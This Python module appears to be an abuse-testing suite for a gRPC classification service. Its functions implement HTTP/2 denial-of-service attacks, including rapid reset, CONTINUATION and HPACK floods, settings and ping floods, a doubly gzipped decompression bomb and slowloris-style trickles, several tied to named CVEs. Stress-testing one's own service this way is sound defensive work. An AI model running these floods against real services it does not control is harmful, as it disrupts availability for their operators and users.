"""Attacks, each on connections of its own; an attack ends when it is answered, hung up on or cancelled."""

import asyncio
import gzip
import os
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from itertools import chain, islice, repeat

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.abuse.peer import PREFACE, Peer, header, header_block, prefixed, socket_to
from heron.v1 import classification_pb2

SERVICE = "/heron.v1.ClassificationService"
CLASSIFY, UPLOAD, BULK = f"{SERVICE}/Classify", f"{SERVICE}/ClassifyUpload", f"{SERVICE}/ClassifyBulk"
TEXT = "Please find below what we agreed upon and what remains to be paid by the end of the month."
REQUEST = classification_pb2.ClassifyRequest(text=TEXT).SerializeToString()
UPLOAD_START = classification_pb2.ClassifyUploadRequest(
    start=classification_pb2.ClassifyUploadStart()
).SerializeToString()
BULK_START = classification_pb2.ClassifyBulkRequest(start=classification_pb2.ClassifyBulkStart()).SerializeToString()
_AT_ONCE = 500
# Streams the service lets one connection have.
_STREAMS = 128

Attack = Callable[[str], Awaitable[None]]


async def rapid_reset(address: str, count: int = 5000) -> None:
    """Calls begun and given up in the same breath (CVE-2023-44487)."""
    async with _attacking(address) as peer:
        await _flood(peer, chain.from_iterable(_given_up(peer) for _ in range(count)))


async def continuations(address: str, count: int = 20_000) -> None:
    """A header block that never ends (CVE-2024-27316 and its kin)."""
    async with _attacking(address) as peer:
        stream = peer.open()
        await peer.send(HeadersFrame(stream, header_block(CLASSIFY)))
        await _flood(peer, (ContinuationFrame(stream, header(b"x-%d" % number, b"x" * 500)) for number in range(count)))


async def unacknowledged_headers(address: str, streams: int = 20, kib: int = 4096) -> None:
    """Calls with great metadata by a client that never acknowledges the limit on it."""
    async with _attacking(address, acknowledges=False) as peer:
        for _ in range(streams):
            stream = peer.open()
            await peer.send(HeadersFrame(stream, header_block(CLASSIFY)))
            parts = (ContinuationFrame(stream, header(b"x-%d" % part, b"x" * 16_000)) for part in range(kib // 16))
            await _flood(peer, parts)
            await peer.send(ContinuationFrame(stream, flags=["END_HEADERS"]))


async def header_references(address: str, count: int = 200) -> None:
    """Small header blocks that say the same 4 KB value thousands of times (HPACK bomb)."""
    async with _attacking(address) as peer:
        for _ in range(count):
            stream = peer.open()
            inserted = header(b"x-big", b"x" * 3900, remembered=True)
            # 62 is the first index of the dynamic table (RFC 7541, 2.3.3).
            block = header_block(CLASSIFY) + inserted + b"\xbe" * 10_000
            await peer.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))


async def settings(address: str, count: int = 50_000) -> None:
    """Settings that each want an acknowledgement (CVE-2019-9515)."""
    async with _attacking(address, takes_bytes=0) as peer:
        await _flood(peer, repeat(SettingsFrame(), count))


async def pings(address: str, count: int = 50_000) -> None:
    """Pings that each want an answer (CVE-2019-9512)."""
    async with _attacking(address) as peer:
        await _flood(peer, repeat(PingFrame(opaque_data=b"12345678"), count))


async def empty_frames(address: str, count: int = 50_000) -> None:
    """Frames that carry nothing (CVE-2019-9518)."""
    async with _attacking(address) as peer:
        stream = await peer.call(UPLOAD)
        await _flood(peer, repeat(DataFrame(stream), count))


async def priorities(address: str, count: int = 50_000) -> None:
    """Priorities of streams that never come (CVE-2019-9513)."""
    async with _attacking(address) as peer:
        await _flood(peer, (PriorityFrame(2 * number + 1, stream_weight=16) for number in range(count)))


async def window_updates(address: str, count: int = 50_000) -> None:
    """Windows widened by one byte at a time."""
    async with _attacking(address, takes_bytes=0) as peer:
        stream = await peer.call(CLASSIFY)
        await _flood(peer, repeat(WindowUpdateFrame(stream, window_increment=1), count))


async def too_many_streams(address: str, count: int = 2000) -> None:
    """More calls on a connection than the service allows."""
    async with _attacking(address) as peer:
        for _ in range(count):
            await peer.call(CLASSIFY)


async def unknown_methods(address: str, count: int = 5000) -> None:
    """Calls of methods that do not exist, each of another name."""
    async with _attacking(address) as peer:
        for number in range(count):
            await peer.call(f"/heron.v1.{os.urandom(4).hex()}/{number}")
            if number % _STREAMS == 0:
                await peer.answer(max(peer.answers))
                peer.answers.clear()


async def decompression_bombs(address: str, count: int = 20) -> None:
    """Messages of some KB that would become a GB each."""
    bomb = _bomb()
    async with _attacking(address) as peer:
        for _ in range(count):
            stream = await peer.call(CLASSIFY, {"grpc-encoding": "gzip"})
            with suppress(ConnectionError):
                await peer.message(stream, bomb, compressed=True)
            await peer.answer(stream)


async def tiny_chunks(address: str, count: int = 30_000) -> None:
    """An upload of a byte a message."""
    chunk = prefixed(classification_pb2.ClassifyUploadRequest(chunk=b"x").SerializeToString())
    async with _attacking(address) as peer:
        stream = await peer.call(UPLOAD)
        await peer.message(stream, UPLOAD_START)
        for _ in range(count // 1000):
            await peer.data(stream, chunk * 1000)


async def slow_headers(address: str, connections: int = 100) -> None:
    """Half a header block each, and then nothing."""
    async with _many(address, connections) as peers:
        for peer in peers:
            await peer.send(HeadersFrame(peer.open(), header_block(CLASSIFY)[:20]))
        await _closed(peers)


async def slow_requests(address: str, connections: int = 8, calls: int = _STREAMS) -> None:
    """Calls whose request stops in the middle."""
    async with _many(address, connections) as peers:
        for peer in peers:
            for number in range(calls):
                stream = await peer.call((CLASSIFY, UPLOAD, BULK)[number % 3])
                await peer.data(stream, prefixed(REQUEST)[: 3 + number % 10])
        await _answered(peers)


async def trickle(address: str, connections: int = 50, gap_s: float = 0.05) -> None:
    """Requests that come byte by byte."""
    async with _many(address, connections) as peers:
        streams = [await peer.call(CLASSIFY) for peer in peers]
        for byte in prefixed(REQUEST):
            for peer, stream in zip(peers, streams, strict=True):
                await peer.data(stream, bytes([byte]))
            await asyncio.sleep(gap_s)


async def stalled_readers(address: str, connections: int = 8, calls: int = 100) -> None:
    """Calls whose answers are never taken: the service may send nothing."""
    async with _many(address, connections, takes_bytes=0) as peers:
        for peer in peers:
            for _ in range(calls):
                await peer.message(await peer.call(CLASSIFY), REQUEST, end=True)
        await _answered(peers)


async def stalled_bulk_readers(address: str, connections: int = 8) -> None:
    """Bulk streams that ask and ask and take no answer."""
    items = (classification_pb2.ClassifyBulkItem(item_id=str(number), text=f"{TEXT} {number}") for number in range(100))
    messages = [classification_pb2.ClassifyBulkRequest(item=item).SerializeToString() for item in items]
    async with _many(address, connections, takes_bytes=0) as peers:
        for peer in peers:
            stream = await peer.call(BULK)
            for message in (BULK_START, *messages):
                await peer.message(stream, message)
        await _answered(peers)


async def idle_connections(address: str, connections: int = 500) -> None:
    """Connections that ask nothing."""
    async with _many(address, connections) as peers:
        await _closed(peers)


async def mute_connections(address: str, connections: int = 500) -> None:
    """Sockets that never say that they speak HTTP/2."""
    async with AsyncExitStack() as stack:
        sockets = [await stack.enter_async_context(socket_to(address)) for _ in range(connections)]
        await asyncio.gather(*(reader.read() for reader, _ in sockets))


async def garbage(address: str, connections: int = 200) -> None:
    """Bytes that are no HTTP/2, with and without its greeting."""
    for number in range(connections):
        async with socket_to(address) as (reader, writer):
            writer.write((PREFACE if number % 2 else b"") + os.urandom(1000))
            with suppress(ConnectionError):
                await reader.read()


async def reconnects(address: str, count: int = 500) -> None:
    """Connections that are closed as soon as they stand."""
    for _ in range(count):
        async with _attacking(address) as peer:
            await peer.call(CLASSIFY)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuations,
        unacknowledged_headers,
        header_references,
        settings,
        pings,
        empty_frames,
        priorities,
        window_updates,
        too_many_streams,
        unknown_methods,
        decompression_bombs,
        tiny_chunks,
        slow_headers,
        slow_requests,
        trickle,
        stalled_readers,
        stalled_bulk_readers,
        idle_connections,
        mute_connections,
        garbage,
        reconnects,
    )
}


def _bomb() -> bytes:
    """A GB of zeros, gzipped twice over in one stream's worth of members: about a MB."""
    return gzip.compress(bytes(64 << 20), 9) * 16


def _given_up(peer: Peer) -> Iterable[Frame]:
    headers = peer.begin(CLASSIFY)
    return headers, RstStreamFrame(headers.stream_id, error_code=8)


async def _flood(peer: Peer, frames: Iterable[Frame]) -> None:
    rest = iter(frames)
    while batch := [*islice(rest, _AT_ONCE)]:
        await peer.send(*batch)


@asynccontextmanager
async def _attacking(address: str, **options: object) -> AsyncIterator[Peer]:
    """A connection that the service may hang up on."""
    with suppress(ConnectionError):
        async with Peer.connected(address, **options) as peer:
            yield peer


@asynccontextmanager
async def _many(address: str, connections: int, **options: object) -> AsyncIterator[list[Peer]]:
    async with AsyncExitStack() as stack:
        stack.enter_context(suppress(ConnectionError))
        yield [await stack.enter_async_context(Peer.connected(address, **options)) for _ in range(connections)]


async def _closed(peers: Iterable[Peer]) -> None:
    await asyncio.gather(*(peer.closed.wait() for peer in peers))


async def _answered(peers: Iterable[Peer]) -> None:
    await asyncio.gather(*(answer.ended.wait() for peer in peers for answer in peer.answers.values()))
